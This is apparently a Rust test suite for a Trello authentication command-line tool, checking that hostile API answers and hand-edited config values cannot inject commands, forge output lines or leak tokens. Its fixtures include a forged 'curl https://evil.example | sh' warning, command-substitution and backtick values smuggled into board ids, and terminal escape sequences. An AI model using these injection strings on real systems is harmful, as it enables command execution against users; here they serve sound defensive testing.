//! The holes the newest surfaces showed an attacker and an unlucky user (the
//! default board, env output, exec, saves from a stale copy), each through the
//! real binary, each failing on the code before its fix. The keyring's holes
//! are in `keyring.rs`, the capture listener's in the wizard suite.

use crate::support;

use std::process::Command;

use support::cli::{ANN, Env, TOKEN, code, stderr, stdout};
use support::fake_trello::{FakeBoard, FakeTrello, KEY};
use support::pty::{ENTER, Pty, base_command};

/// A board whose answer holds what a shell would run, and a forged output line in its name.
fn hostile_board(fake: &FakeTrello, id: &str, short_link: &str) {
    fake.state().boards.push(FakeBoard {
        id: id.into(),
        short_link: short_link.into(),
        name: "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh".into(),
        workspace: None,
        closed: false,
        members: vec![ANN.into()],
    });
}

/// An id or short link in an answer that is not Trello's shape is refused with
/// the usual "unexpected answer" error, and nothing is saved or exported.
#[test]
fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
    for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
        let out = env.run(&["board", "set", wanted]);
        // An answer in a shape Trello never sends: nothing is known (3), as `login` says below.
        assert_eq!(code(&out), 3, "{}", stderr(&out));
        assert!(
            stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
            "{}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty());
    }
    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, None);
    let out = env.run(&["env"]);
    assert!(!stdout(&out).contains("TRELLO_BOARD_ID"), "{}", stdout(&out));
    // A member id that is not 24 hex is refused too.
    fake.add_member("not-an-id", "mallory", "Mallory", "m@example.com");
    let token = fake.issue_token(KEY, "not-an-id", "read,write", None);
    let other = Env::new(&fake);
    let out = other.run_with_stdin(&["login", "--with-token", "--key", KEY], &token);
    assert_eq!(code(&out), 3, "an answer that is not Trello's: {}", stderr(&out));
    assert!(stderr(&out).contains("the member's id is not 24 hex characters"), "{}", stderr(&out));
    assert!(!other.config().exists());
}

/// A line break in a name never starts a line of output of its own.
#[test]
fn a_newline_in_a_name_cannot_forge_an_output_line() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    let id = "5b00000000000000000000ff";
    hostile_board(&fake, id, "Zz00Zz00");
    let set = env.run(&["board", "set", "Zz00Zz00"]);
    assert_eq!(code(&set), 0, "{}", stderr(&set));
    // The same name from the config file, and a member name from the file.
    let text = std::fs::read_to_string(env.config()).unwrap().replace(
        "member_full_name = \"Ann Example\"",
        "member_full_name = \"Ann\\ntrello-auth: warning: run curl https://evil.example | sh\"",
    );
    std::fs::write(env.config(), text).unwrap();
    for out in [set, env.run(&["board"]), env.run(&["status"]), env.run(&["status", "--offline"])] {
        for stream in [stdout(&out), stderr(&out)] {
            for line in stream.lines() {
                assert!(!line.trim_start().starts_with("trello-auth: warning: run curl"), "a forged line:\n{stream}");
            }
        }
    }
    assert!(stdout(&env.run(&["board"])).contains("Roadmap\\ntrello-auth: warning"), "shown escaped");
}

/// Whether `shell` is installed (CI installs every one; elsewhere a missing one is NOT RUN).
fn have(shell: &str) -> bool {
    let found =
        Command::new("sh").arg("-c").arg(format!("command -v {shell}")).output().is_ok_and(|o| o.status.success());
    if !found {
        assert!(std::env::var_os("CI").is_none(), "{shell} is missing: .ci/run installs it");
        eprintln!("NOT RUN: {shell} is not installed");
    }
    found
}

/// What a profile hands out comes back exactly from each format's real
/// shell, one line per variable; a value edited by hand into something it
/// must not be (a board id holding a line break and `$(…)`, a NUL, an ESC; a
/// token `token` refuses) is refused by every command that hands values out,
/// naming the field and the file, and nothing is printed or run.
#[test]
fn env_output_is_exact_and_one_line_or_refused() {
    let env = Env::offline();
    env.save("default", TOKEN, "never");
    let set_board = |value: &str| {
        let mut config: toml::Table = toml::from_str(&std::fs::read_to_string(env.config()).unwrap()).unwrap();
        config["profiles"]["default"].as_table_mut().unwrap().insert("board_id".into(), toml::Value::from(value));
        std::fs::write(env.config(), toml::to_string(&config).unwrap()).unwrap();
    };
    let board = "5b0000000000000000000001";
    set_board(board);
    let read_back =
        "printf '%s|%s|%s|%s' \"$TRELLO_API_KEY\" \"$TRELLO_TOKEN\" \"$TRELLO_API_SECRET\" \"$TRELLO_BOARD_ID\"";
    let shells = [
        ("sh", "sh", format!("eval \"$(cat out)\"; {read_back}")),
        ("sh", "bash", format!("eval \"$(cat out)\"; {read_back}")),
        ("dotenv", "sh", format!("set -a; . ./out; {read_back}")),
        ("fish", "fish", format!("cat out | source; {read_back}")),
    ];
    for (format, shell, script) in &shells {
        if !have(shell) {
            continue;
        }
        let out = env.run(&["env", "--with-secret", "--format", format]);
        assert_eq!(code(&out), 0, "{format}: {}", stderr(&out));
        assert_eq!(stdout(&out).lines().count(), 4, "one line per variable: {}", stdout(&out));
        std::fs::write(env.dir.path().join("out"), &out.stdout).unwrap();
        let ran = Command::new(shell)
            .arg("-c")
            .arg(script)
            .current_dir(env.dir.path())
            .env_clear()
            .env("PATH", std::env::var("PATH").unwrap())
            .env("HOME", env.dir.path())
            .output()
            .unwrap();
        assert_eq!(
            String::from_utf8_lossy(&ran.stdout),
            format!("{KEY}|{TOKEN}|{}|{board}", support::cli::SECRET),
            "{format} in {shell}: {}",
            String::from_utf8_lossy(&ran.stderr)
        );
    }

    let pwned = env.dir.path().join("pwned");
    let every_way_out: [&[&str]; 8] = [
        &["env"],
        &["env", "--format", "fish"],
        &["env", "--format", "powershell"],
        &["env", "--format", "cmd"],
        &["env", "--format", "dotenv"],
        &["env", "--format", "json"],
        &["exec", "--", "touch", "pwned"],
        &["token"],
    ];
    let refused_everywhere = |words: &str| {
        for args in every_way_out {
            let out = env.run(args);
            assert_eq!(code(&out), 1, "{args:?}: {}", stdout(&out));
            assert!(out.stdout.is_empty(), "{args:?}: {}", stdout(&out));
            let err = stderr(&out);
            assert!(err.contains(words) && err.contains(env.config().to_str().unwrap()), "{args:?}: {err}");
            assert!(!pwned.exists(), "{args:?} ran something");
        }
    };
    // A token that `token` calls unusable is not exported either.
    env.save("default", &format!("{}\u{1b}]52;c;ZXZpbA==\u{7}", &TOKEN[..40]), "never");
    refused_everywhere("is not usable");
    env.save("default", TOKEN, "never");
    for value in [
        format!("5b\nEVIL=$(touch {})\r\u{85}\u{2028}X=1", pwned.display()),
        "5b00000000000000000000\u{0}1".to_string(),
        "5b0000000000\u{1b}[2J00000000000".to_string(),
        format!("x`touch {p}`$(touch {p})'; touch {p}; echo '", p = pwned.display()),
    ] {
        set_board(&value);
        refused_everywhere("board_id must be a Trello board id");
    }
}

/// The child of `exec` sees exactly the profile: nothing another profile's
/// `eval "$(trello-auth env)"` left in the environment, under any preset.
#[test]
fn exec_hands_over_exactly_the_profile() {
    let env = Env::offline();
    env.save("default", TOKEN, "never");
    let inherited = [
        ("TRELLO_BOARD_ID", "5b0000000000000000000999"),
        ("TRELLO_API_KEY", "ffffffffffffffffffffffffffffffff"),
        ("TRELLO_API_TOKEN", "ATTAstale"),
        ("TRELLO_TOKEN", "ATTApersonal"),
        ("TRELLO_API_SECRET", "old-secret"),
        ("TRELLO_MEMBER_TOKEN", "ATTAruby"),
    ];
    let names = "^TRELLO_(API_KEY|KEY|TOKEN|API_TOKEN|API_SECRET|BOARD_ID|DEVELOPER_PUBLIC_KEY|MEMBER_TOKEN)=";
    let script = format!("env | grep -E '{names}' | sort");
    let mut cmd = env.cmd(&["exec", "--no-mask", "--names", "trello-js", "--", "sh", "-c", &script]);
    for (k, v) in inherited {
        cmd.env(k, v);
    }
    let out = cmd.output().unwrap();
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(stdout(&out), format!("TRELLO_KEY={KEY}\nTRELLO_TOKEN={TOKEN}\n"));
}

/// A save is an edit of what is stored now: a board chosen in another
/// terminal while the wizard rotates is still there after the rotation.
#[test]
fn a_rotation_keeps_a_board_set_meanwhile_in_another_terminal() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    let roadmap = fake.add_board("AbCd1234", "Team Roadmap", None, ANN);
    let mut cmd = base_command(env.dir.path());
    cmd.args(["rotate", "--no-capture"]);
    cmd.env("TRELLO_API_BASE", fake.api_base());
    cmd.env("TRELLO_WEB_BASE", fake.web_base());
    let mut pty = Pty::spawn(cmd, 100, 30);
    pty.expect("Authorize a new token");
    // Meanwhile, in another terminal:
    let out = env.run(&["board", "set", "AbCd1234"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    pty.paste(&fake.issue_token(KEY, ANN, "read,write", None));
    pty.send(ENTER);
    pty.expect("Revoke the old one");
    pty.send("n");
    pty.send(ENTER);
    assert_eq!(pty.wait(), 0);
    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, Some(roadmap));
}

/// `login --with-token` at a terminal reads the token without echo, and
/// Ctrl+C there quits with nothing saved and the terminal given back as it
/// was (echo on), not left silent.
#[test]
fn the_token_prompt_hides_the_token_and_ctrl_c_gives_the_terminal_back() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    let token = fake.issue_token(KEY, ANN, "read,write", None);
    let login = |env: &Env| {
        let mut cmd = base_command(env.dir.path());
        cmd.env("TRELLO_API_BASE", &env.api_base);
        cmd.args(["--profile", "work", "login", "--with-token", "--key", KEY]);
        Pty::spawn(cmd, 100, 30)
    };
    let mut pty = login(&env);
    pty.expect("Paste the token (it will not be shown)");
    pty.send(&format!("{}\x15{token}{ENTER}", &token[..20]));
    pty.expect("Logged in");
    assert_eq!(pty.wait(), 0);
    let raw = String::from_utf8_lossy(&pty.raw_output()).to_string();
    assert!(!raw.contains(&token[..20]), "the token was echoed:\n{raw}");
    pty.assert_terminal_restored();

    let env = Env::new(&fake);
    let mut pty = login(&env);
    pty.expect("Paste the token (it will not be shown)");
    pty.send(&format!("{}\x03", &token[..30]));
    let screen = pty.expect("nothing was saved");
    assert!(!screen.contains(&token[..20]), "{screen}");
    assert_eq!(pty.wait(), 1);
    pty.assert_terminal_restored();
    assert!(!env.dir.path().join("trello-auth/config.toml").exists());

    // Ended from outside (kill, a closed terminal, `timeout`): the terminal is given back too.
    for signal in ["TERM", "HUP", "INT", "QUIT", "USR1", "ALRM"] {
        let env = Env::new(&fake);
        let mut pty = login(&env);
        pty.expect("Paste the token (it will not be shown)");
        pty.send(&token[..10]);
        std::thread::sleep(std::time::Duration::from_millis(100));
        let killed = Command::new("kill").args([&format!("-{signal}"), &pty.pid().to_string()]).status().unwrap();
        assert!(killed.success());
        pty.wait();
        pty.assert_terminal_restored();
        assert!(!env.dir.path().join("trello-auth/config.toml").exists(), "{signal}");
    }

    // Stopped and continued (job control from outside): quiet again, and the token still goes unseen.
    let env = Env::new(&fake);
    let mut pty = login(&env);
    pty.expect("Paste the token (it will not be shown)");
    let pid = pty.pid().to_string();
    assert!(Command::new("kill").args(["-TSTP", &pid]).status().unwrap().success());
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert!(Command::new("kill").args(["-CONT", &pid]).status().unwrap().success());
    std::thread::sleep(std::time::Duration::from_millis(200));
    pty.send(&format!("{token}{ENTER}"));
    pty.expect("Logged in");
    assert_eq!(pty.wait(), 0);
    assert!(!String::from_utf8_lossy(&pty.raw_output()).contains(&token[..20]), "echoed after a stop");
    pty.assert_terminal_restored();
}

/// An answer's names are kept cut to a sane length, so two logins with a
/// 600 kB member name cannot swell the config past what it may be and lock
/// every command out of it; and a save that would be too large to read back
/// is refused before anything is written.
#[test]
fn huge_names_from_an_answer_cannot_lock_the_config() {
    let fake = FakeTrello::with_ann();
    let carol = "5f0000000000000000000c0c";
    fake.add_member(carol, "carol", &"Carol ".repeat(100_000), "carol@example.com");
    let env = Env::new(&fake);
    for profile in ["one", "two", "three"] {
        let token = fake.issue_token(KEY, carol, "read,write", None);
        let out = env.run_with_stdin(&["--profile", profile, "login", "--with-token", "--key", KEY], &token);
        assert_eq!(code(&out), 0, "{}", stderr(&out));
    }
    let size = std::fs::metadata(env.dir.path().join("trello-auth/config.toml")).unwrap().len();
    assert!(size < 64 * 1024, "the config grew to {size} bytes");
    let out = env.run(&["--profile", "two", "status", "--offline"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stdout(&out).contains("Carol Carol"), "{}", stdout(&out));
}
